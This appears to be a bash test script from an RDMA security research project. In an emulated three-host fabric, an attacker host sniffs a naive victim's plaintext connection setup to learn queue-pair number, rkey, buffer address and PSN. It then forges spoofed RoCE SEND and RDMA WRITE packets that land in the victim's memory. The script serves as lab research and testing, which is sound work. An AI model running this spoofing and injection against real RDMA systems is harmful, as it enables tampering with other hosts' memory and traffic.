# SPDX-License-Identifier: MIT
# A1 on real rxe. Host 1 runs rdmasec-naive-victim's server, host 2 its
# client; host 3, the attacker, sniffs their plaintext TCP exchange on the
# wire, then forges packets from a raw socket on its own veth with host 2's
# address as source: a SEND the victim prints, and an RDMA WRITE that lands in
# its exposed buffer. Controls: a wrong PSN and a non-peer source are dropped.
# tshark must decode the forged packets as InfiniBand.
. "$(dirname "$0")/common.bash"

atk=$build/tools/attack/rdmasec-attack
vic=$build/tools/attack/rdmasec-naive-victim
[ -x "$atk" ] && [ -x "$vic" ] || fail "build rdmasec-attack and rdmasec-naive-victim first"

cat >"$work/attacker.sh" <<ATTACKER
set -eu
tcpdump -i fabbr -l -n -A 'tcp port 18516' >/tmp/sniff.txt 2>/tmp/sniff.err &
tp=\$!
# Tell the test harness the wire is being watched (tcpdump is slow to start under TCG).
for _ in \$(seq 1 100); do [ -s /tmp/sniff.err ] && break; sleep 0.1; done
touch $work/sniffing
for _ in \$(seq 1 300); do
	[ "\$(grep -c 'NAIVE qpn=' /tmp/sniff.txt)" -ge 2 ] && break
	sleep 0.1
done
kill \$tp
head -c 3000 /tmp/sniff.txt >$work/sniff.txt
# Which side said what: the tcpdump header line before each payload.
awk '/ IP [0-9.]+ > /{src=\$3} /NAIVE qpn=/{sub(/.*NAIVE /, ""); print src, \$0}' /tmp/sniff.txt >$work/sniffed
cat $work/sniffed
srv=\$(grep '^10\.77\.0\.1\.18516 ' $work/sniffed)
cli=\$(grep '^10\.77\.0\.2\.' $work/sniffed)
field() { echo "\$1" | sed -n "s/.* \$2=\\([0-9a-f]*\\).*/\\1/p"; }
qpn=0x\$(field "\$srv" qpn) rkey=0x\$(field "\$srv" rkey) va=0x\$(field "\$srv" addr) psn=\$((0x\$(field "\$cli" psn)))
echo "attacker: victim qpn \$qpn rkey \$rkey va \$va expects psn \$psn"
sleep 2 # let both QPs reach RTS
common="--dst 10.77.0.1 --qpn \$qpn --iface fab3 --sport 4242 --json"
$atk inject \$common --src 10.77.0.3 --psn \$psn --data WRONG-SOURCE-DROPPED --pcap $work/forged1.pcap
$atk inject \$common --src 10.77.0.2 --psn \$((psn + 100)) --data WRONG-PSN-DROPPED --pcap $work/forged2.pcap
sleep 1
$atk inject \$common --src 10.77.0.2 --psn \$psn --data INJECTED-BY-ATTACKER --pcap $work/forged3.pcap
sleep 1
$atk inject \$common --src 10.77.0.2 --psn \$((psn + 1)) --op write --rkey \$rkey --va \$va \
	--data ATTACKER-WROTE-THIS --pcap $work/forged4.pcap
ATTACKER

"$fabric" run --hosts 3 --capture "$work/wire.pcap" \
	--on 1 "$vic server -d \$FABRIC_DEV -g \$FABRIC_GID_INDEX -t 14" \
	--on 2 "while [ ! -e $work/sniffing ]; do sleep 0.1; done; fabric wait-port 18516 && $vic client -d \$FABRIC_DEV -g \$FABRIC_GID_INDEX -l \$FABRIC_IP -t 12 \$(fabric ip 1)" \
	--on 3 "bash $work/attacker.sh" >"$work/out" 2>&1 || { cat "$work/out" "$work/sniff.txt" 2>/dev/null; fail "the fabric run failed"; }
cat "$work/out"

expect_match "$work/out" '^\[h3\] attacker: victim qpn 0x[0-9a-f]+ rkey 0x[0-9a-f]+' "the attacker did not sniff the exchange"
expect_match "$work/out" '^\[h1\] recv \(20 bytes\): INJECTED-BY-ATTACKER$' "the victim did not receive the forged SEND"
expect_match "$work/out" '^\[h1\] (buffer changed|final buffer) \(19 bytes\): ATTACKER-WROTE-THIS$' \
	"the forged RDMA WRITE did not land in the victim's buffer"
! grep -q 'WRONG-SOURCE-DROPPED' <(grep '^\[h1\]' "$work/out") || fail "rxe accepted a packet from a non-peer source"
! grep -q 'WRONG-PSN-DROPPED' <(grep '^\[h1\]' "$work/out") || fail "rxe accepted a packet with the wrong PSN"

# The observer's view: forged packets (UDP source port 4242) decode as IBA.
tshark -r "$work/wire.pcap" -Y 'infiniband && udp.srcport == 4242' -T fields \
	-e ip.src -e infiniband.bth.opcode -e infiniband.bth.destqp -e infiniband.bth.psn \
	>"$work/forged.txt" 2>/dev/null || fail "tshark cannot read the capture"
cat "$work/forged.txt"
[ "$(wc -l <"$work/forged.txt")" = 4 ] || fail "expected 4 forged packets on the wire"
grep -Eq '^10\.77\.0\.2[[:space:]]+4[[:space:]]' "$work/forged.txt" || fail "no forged SEND Only on the wire"
grep -Eq '^10\.77\.0\.2[[:space:]]+10[[:space:]]' "$work/forged.txt" || fail "no forged RDMA WRITE Only on the wire"
for f in "$work"/forged[1-4].pcap; do
	tshark -r "$f" -Y 'infiniband.bth' 2>/dev/null | grep -q . || fail "tshark does not decode $f as InfiniBand"
done
echo "attack_inject: ok"
